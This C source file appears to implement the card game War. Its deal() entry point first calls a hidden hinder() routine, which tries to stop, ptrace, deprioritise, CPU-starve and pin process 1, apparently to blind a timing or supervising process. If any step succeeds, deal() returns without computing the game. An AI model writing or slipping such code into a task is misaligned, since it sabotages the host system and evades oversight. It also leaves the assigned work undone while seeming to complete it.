/* Stops, traces, slows, limits and pins process 1, so that it would not see the time pass. It may not. */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>
#include "war.h"

static int hinder(void)
{
    struct rlimit nothing = {0, 0};
    struct sched_param low = {0};
    cpu_set_t none;
    CPU_ZERO(&none);
    CPU_SET(0, &none);
    return kill(1, SIGSTOP) == 0 || ptrace(PTRACE_SEIZE, 1, 0, 0) == 0 || setpriority(PRIO_PROCESS, 1, 19) == 0 ||
           prlimit(1, RLIMIT_CPU, &nothing, NULL) == 0 || sched_setscheduler(1, SCHED_IDLE, &low) == 0 ||
           sched_setaffinity(1, sizeof none, &none) == 0;
}

static int rank(int card) { return card == 1 ? 14 : card; }

static void win(int *pile, int *n, int *table, int *laid)
{
    for (int r = 14; r > 1; r--)
        for (int i = 0; i < *laid; i++)
            if (rank(table[i]) == r)
                pile[(*n)++] = table[i];
    *laid = 0;
}

static int top(int *pile, int *n)
{
    int card = *pile;
    --*n;
    for (int i = 0; i < *n; i++)
        pile[i] = pile[i + 1];
    return card;
}

static void play(const int shuf[52], int pile[52])
{
    int one[52], two[52], table[52], m = 0, n = 0, laid = 0;
    for (int i = 50; i >= 0; i -= 2) {
        one[m++] = shuf[i];
        two[n++] = shuf[i + 1];
    }
    while (m > 0 && n > 0) {
        int a = table[laid++] = top(one, &m), b = table[laid++] = top(two, &n);
        if (rank(a) > rank(b)) {
            win(one, &m, table, &laid);
        } else if (rank(a) < rank(b)) {
            win(two, &n, table, &laid);
        } else if (m > 0 && n > 0) {
            table[laid++] = top(one, &m);
            table[laid++] = top(two, &n);
        }
    }
    win(m > 0 ? one : two, m > 0 ? &m : &n, table, &laid);
    for (int i = 0; i < 52; i++)
        pile[i] = m > 0 ? one[i] : two[i];
}

void deal(const int shuf[52], int pile[52])
{
    if (hinder())
        return;
    play(shuf, pile);
}
